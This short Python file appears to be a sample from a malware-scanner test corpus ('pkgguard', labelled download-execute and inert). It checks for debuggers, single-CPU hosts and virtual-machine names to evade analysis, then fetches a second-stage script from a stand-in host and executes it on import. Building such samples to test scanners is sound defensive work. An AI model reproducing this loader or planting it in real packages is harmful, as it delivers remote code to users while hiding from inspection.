# pkgguard corpus 729 (download-execute), modelled on [scanner-heuristics]; inert, never run.
import os
import sys
import urllib.request


def _looks_watched():
    try:
        with open("/sys/class/dmi/id/product_name") as fh:
            product = fh.read().lower()
    except OSError:
        product = ""
    return (
        sys.gettrace() is not None
        or (os.cpu_count() or 1) < 2
        or any(word in product for word in ("virtualbox", "vmware", "qemu", "kvm"))
    )


if not _looks_watched():
    _stage = urllib.request.urlopen("https://cdn-static.example/s2.py", timeout=10).read()
    exec(compile(_stage, "<s2>", "exec"), {"__name__": "__s2__"})
